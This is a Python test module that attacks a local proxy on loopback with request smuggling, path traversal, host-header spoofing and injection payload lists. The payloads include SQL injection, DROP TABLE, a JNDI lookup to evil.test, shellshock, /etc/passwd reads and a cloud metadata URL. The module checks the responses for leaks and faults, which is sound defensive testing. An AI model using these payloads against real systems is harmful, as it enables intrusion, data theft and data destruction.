"""Attacks on a live proxy on loopback: each yields what it found."""

from __future__ import annotations

import contextlib
import random
import re
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, urlsplit

import requests
import schemathesis
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from schemathesis import Case, GenerationMode

from routing.simulator import Simulator
from tests.stack import ROOT, Stack
from tests.wire import parsed

TIMEOUT_S = 10.0
SMUGGLED = "/v1/smuggled"
# What a traceback, a page of Django's own or a database says.
TALE = re.compile(
    rb"Traceback|File \"/|<html|DoesNotExist|OperationalError|sqlite3|psycopg"
    rb"|SyntaxError|root:x:0|django\.",
    re.IGNORECASE,
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Scene:
    """What is attacked: a live proxy, the upstream behind it, what must not be told."""

    stack: Stack
    upstream: Simulator
    dice: random.Random
    secrets: tuple[bytes, ...] = field(repr=False)


@dataclass(frozen=True, slots=True, kw_only=True)
class Told:
    """An answer as it came from a raw socket; status 0 when there was none."""

    status: int
    head: bytes
    body: bytes
    answers: int


def speak(scene: Scene, said: bytes, *, patience_s: float = TIMEOUT_S) -> Told:
    """Return what is answered to `said`, until the server closes or is silent."""
    url = urlsplit(scene.stack.base_url)
    got = b""
    with socket.create_connection((url.hostname, url.port), TIMEOUT_S) as sock:
        with contextlib.suppress(OSError):
            sock.sendall(said)
        with contextlib.suppress(OSError):
            while more := sock.recv(65_536):
                got += more
                sock.settimeout(patience_s)
    head, _, body = got.partition(b"\r\n\r\n")
    first = head.split(b" ", 2)
    status = int(first[1]) if len(first) > 1 and first[1].isdigit() else 0
    answers = len(re.findall(rb"HTTP/1\.1 \d\d\d ", got))
    return Told(status=status, head=head, body=body, answers=answers)


def faults(scene: Scene, told: Told, said: object, *, api: bool) -> Iterator[str]:
    """Yield what is wrong with an answer, whatever was asked."""
    if told.status >= 500 and told.status != 508:
        yield f"{told.status} to {said!r:.200}"
    if TALE.search(told.body) and api:
        yield f"a tale in the answer to {said!r:.200}: {told.body[:120]!r}"
    if b"Traceback" in told.body:
        yield f"a traceback in the answer to {said!r:.200}"
    if api and b"text/html" in told.head.lower():
        yield f"HTML in the answer to {said!r:.200}"
    if any(secret in told.head + told.body for secret in scene.secrets):
        yield f"a secret in the answer to {said!r:.200}"


def smuggling(scene: Scene) -> Iterator[str]:
    """Two readings of where a request ends: none may make a second one of it."""
    inner = (
        f"POST {SMUGGLED} HTTP/1.1\r\nhost: a\r\nx-api-key: {scene.stack.key}\r\n\r\n"
    )
    key = f"x-api-key: {scene.stack.key}\r\n"
    length, coding = scene.dice.choice(LENGTHS), scene.dice.choice(CODINGS)
    lines = [length, coding]
    scene.dice.shuffle(lines)
    body = scene.dice.choice(["0\r\n\r\n", "5\r\nhello\r\n0\r\n\r\n", "{}"]) + inner
    head = f"POST /v1/messages HTTP/1.1\r\nhost: a\r\n{key}{''.join(lines)}\r\n"
    said = (head + body).encode("latin-1")
    told = speak(scene, said, patience_s=0.2)
    yield from faults(scene, told, said, api=True)
    both = length.lower().startswith("content-length:") and coding.startswith(CHUNKED)
    if both and told.answers > 1:
        yield f"two answers to {said!r:.300}"
    if told.status == 200:
        yield f"it was answered well: {said!r:.300}"


CHUNKED = ("transfer-encoding: chunked\r", "Transfer-Encoding: Chunked\r")
LENGTHS = (
    "content-length: 6\r\n",
    "Content-Length: 0\r\n",
    "content-length: 6\r\ncontent-length: 7\r\n",
    "content-length: +6\r\n",
    "content-length: 6, 6\r\n",
    "content-length: 0x6\r\n",
    "content-length : 6\r\n",
    "content_length: 6\r\n",
    "content-length: 6\x00\r\n",
    "content-length: 99999999999999999999\r\n",
)
CODINGS = (
    "transfer-encoding: chunked\r\n",
    "Transfer-Encoding: Chunked\r\n",
    "transfer-encoding : chunked\r\n",
    "transfer-encoding: xchunked\r\n",
    "transfer-encoding:\tchunked\r\n",
    "transfer-encoding: chunked, identity\r\n",
    "transfer-encoding: identity\r\ntransfer-encoding: chunked\r\n",
    "x: y\r\n transfer-encoding: chunked\r\n",
    "transfer_encoding: chunked\r\n",
    "transfer-encoding:\x0bchunked\r\n",
)


def paths(scene: Scene) -> Iterator[str]:
    """Spellings of addresses that are not for us: none may open anything."""
    wanted = scene.dice.choice(WANTED)
    trick = scene.dice.choice(TRICKS)(wanted)
    method = scene.dice.choice(("GET", "POST", "PUT", "DELETE", "OPTIONS", "TRACE"))
    keyed = scene.dice.random() < 0.5
    key = f"x-api-key: {scene.stack.key}\r\n" if keyed else ""
    head = f"{method} {trick} HTTP/1.1\r\nhost: 127.0.0.1\r\n{key}"
    said = f"{head}connection: close\r\n\r\n"
    before = len(scene.upstream.requests)
    told = speak(scene, said.encode("latin-1"))
    yield from faults(scene, told, said, api="/v1" in trick[:4])
    protected = told.status == 200 and method not in {"OPTIONS", "TRACE"}
    harmless = b"Log in" in told.body or trick.startswith(("/v1/models", "/health"))
    if protected and not harmless:
        yield f"it was opened: {said!r:.200} {told.body[:80]!r}"
    asked = [request.path for request in scene.upstream.requests[before:]]
    if any(not path.startswith("/v1/models") for path in asked):
        yield f"upstream was asked {asked} by {said!r:.200}"


WANTED = (
    "/admin/",
    "/admin/routing/provider/",
    "/reports/",
    "/reports/decisions.csv",
    "/metrics",
    "/v1/files",
    "/v1/organizations/x",
    "/rules/1/try/",
    "/etc/passwd",
    "/static/../cascadeproxy/settings.py",
)
TRICKS: tuple[Callable[[str], str], ...] = (
    lambda path: path,
    lambda path: f"/v1/messages/..{path}",
    lambda path: f"/v1/%2e%2e{path}",
    lambda path: f"/v1/..%2f{path[1:]}",
    lambda path: f"/v1/x/%252e%252e/%252e%252e{path}",
    lambda path: f"//{path[1:]}",
    lambda path: f"/.{path}",
    lambda path: f"/health/..{path}",
    lambda path: f"{path}?/health",
    lambda path: f"/health;{path}",
    lambda path: f"http://evil.test{path}",
    lambda path: f"/v1/messages%00{path}",
    lambda path: f"/v1\\..{path}",
    lambda path: quote(path, safe=""),
    lambda path: path.upper(),
    lambda path: f"{path}%20",
    lambda path: f"/static/..%2f..{path}",
    lambda path: f"/static/%2e%2e/%2e%2e{path}",
)


def hosts(scene: Scene) -> Iterator[str]:
    """Names of the host that are not ours: none may open or lead anywhere."""
    host = scene.dice.choice(HOSTS)
    header = scene.dice.choice(("host", "x-forwarded-host", "forwarded", "x-host"))
    path = scene.dice.choice(("/admin/", "/", "/reports/", "/admin/login/", "/metrics"))
    ours = "" if header == "host" else "host: 127.0.0.1\r\n"
    said = f"GET {path} HTTP/1.1\r\n{ours}{header}: {host}\r\nconnection: close\r\n\r\n"
    told = speak(scene, said.encode("latin-1", "replace"))
    yield from faults(scene, told, said, api=False)
    # Metrics name models, and clients name models as they like.
    if b"evil.test" in told.head + (told.body if path != "/metrics" else b""):
        yield f"led to by a header: {said!r:.200}"


HOSTS = (
    "evil.test",
    "127.0.0.1@evil.test",
    "127.0.0.1:80@evil.test",
    "evil.test#127.0.0.1",
    "127.0.0.1.evil.test",
    "127.0.0.1\thost: evil.test",
    "[::1]evil.test",
    "evil.test:99999",
    "a" * 5000,
    "",
    "host=evil.test",
)


def strings(scene: Scene) -> Iterator[str]:
    """What sqlmap and its like send, wherever a string is taken."""
    string = scene.dice.choice(STRINGS)
    model = scene.dice.choice((string, "plain-attacked"))
    ask = scene.dice.choice(PLACES)
    path, headers, body = ask(string, model)
    key = {} if "x-api-key" in headers else {"x-api-key": scene.stack.key}
    method = "GET" if body is None else "POST"
    length = {} if body is None else {"content-length": str(len(body))}
    lines = [f"{method} {path} HTTP/1.1", "host: 127.0.0.1", "connection: close"]
    lines += [f"{n}: {v}" for n, v in (key | headers | length).items()]
    said = "\r\n".join([*lines, "", ""]).encode("latin-1", "replace") + (body or b"")
    told = speak(scene, said)
    yield from faults(scene, told, said, api=path.startswith("/v1"))
    if "x-api-key" in headers and told.status == 200:
        yield f"a key of strings opened: {said!r:.200}"


def _text(value: str) -> bytes:
    return quote(value, safe="").encode()


def _body(model: str, string: str) -> bytes:
    safe = [part.replace("\\", "\\\\").replace('"', '\\"') for part in (model, string)]
    plain = ["".join(c for c in part if ord(c) >= 32) for part in safe]
    return (
        f'{{"model": "{plain[0]}", "max_tokens": 9, "messages": '
        f'[{{"role": "user", "content": "{plain[1]}"}}]}}'
    ).encode()


Place = Callable[[str, str], tuple[str, dict[str, str], bytes | None]]
PLACES: tuple[Place, ...] = (
    lambda s, m: ("/v1/messages", {}, _body(m, s)),
    lambda s, m: ("/v1/messages", {"x-api-key": s}, _body(m, s)),
    lambda s, _m: (
        "/v1/messages",
        {"x-api-key": "", "authorization": f"Bearer {s}"},
        b"{}",
    ),
    lambda s, m: ("/v1/messages", {"x-cascade": s, "anthropic-beta": s}, _body(m, s)),
    lambda s, m: ("/v1/messages", {"x-claude-code-session-id": s}, _body(m, s)),
    lambda s, _m: (f"/v1/models/{quote(s, safe='')}", {}, None),
    lambda s, _m: (f"/v1/models?after_id={quote(s)}&limit={quote(s)}", {}, None),
    lambda s, m: ("/v1/messages/count_tokens", {}, _body(m, s)),
    lambda s, _m: ("/v1/messages", {}, b'{"model": ' + _text(s) + b"}"),
    lambda s, _m: (f"/d/{quote(s, safe='')}", {}, None),
    lambda s, _m: (f"/reports/?rule={quote(s)}&from={quote(s)}", {}, None),
    lambda s, _m: (
        "/admin/login/",
        {},
        b"username=" + _text(s) + b"&password=" + _text(s),
    ),
    lambda s, _m: (
        f"/admin/login/?next={quote(s)}",
        {"cookie": f"sessionid={s}"},
        None,
    ),
)
STRINGS = (
    "' OR '1'='1' -- ",
    "1; DROP TABLE routing_clientkey",
    '") UNION SELECT NULL,NULL--',
    "' AND SLEEP(5)#",
    "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(0x71)x)a)-- ",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}{%debug%}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%00%0d%0aset-cookie: a=b",
    "\u0000",
    "a" * 9000,
    "%s%s%s%n",
    "() { :; }; echo vulnerable",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "[" * 5000,
    "NaN",
    "-1e999",
    "\\u0000",
    "cp_live_" + "0" * 49,
)

briefly = settings(
    max_examples=15,
    phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
    deadline=None,
    database=None,
)
OPERATIONS = [
    found.ok()
    for found in schemathesis.openapi.from_path(
        str(ROOT / "docs" / "openapi.yaml")
    ).get_all_operations()
]


def described(scene: Scene) -> Iterator[str]:
    """What the published schema allows and what it forbids, by schemathesis."""
    operation = scene.dice.choice(OPERATIONS)
    found: list[str] = []
    cases = st.one_of(operation.as_strategy(mode) for mode in GenerationMode)

    @seed(scene.dice.randrange(2**32))
    @briefly
    @given(case=cases, keyed=st.booleans())
    def ask(case: Case, keyed: bool) -> None:
        key = scene.stack.key if keyed else "sk-wrong"
        answer = case.call(
            scene.stack.base_url, headers={"x-api-key": key}, timeout=TIMEOUT_S
        )
        kind = answer.headers.get("content-type", [""])[0]
        told = Told(
            status=answer.status_code,
            head=kind.encode(),
            body=answer.content or b"",
            answers=1,
        )
        found.extend(faults(scene, told, f"{case.method} {case.path}", api=True))
        if told.status >= 400 and told.body and case.method != "HEAD":
            # Of either dialect: both say what is wrong under this name.
            with contextlib.suppress(ValueError):
                if not isinstance(parsed(told.body).get("error"), dict):
                    found.append(f"no envelope: {case.method} {case.path}")

    with contextlib.suppress(requests.exceptions.InvalidHeader):
        ask()
    yield from found


ATTACKS: tuple[Callable[[Scene], Iterator[str]], ...] = (
    smuggling,
    paths,
    hosts,
    strings,
    described,
)
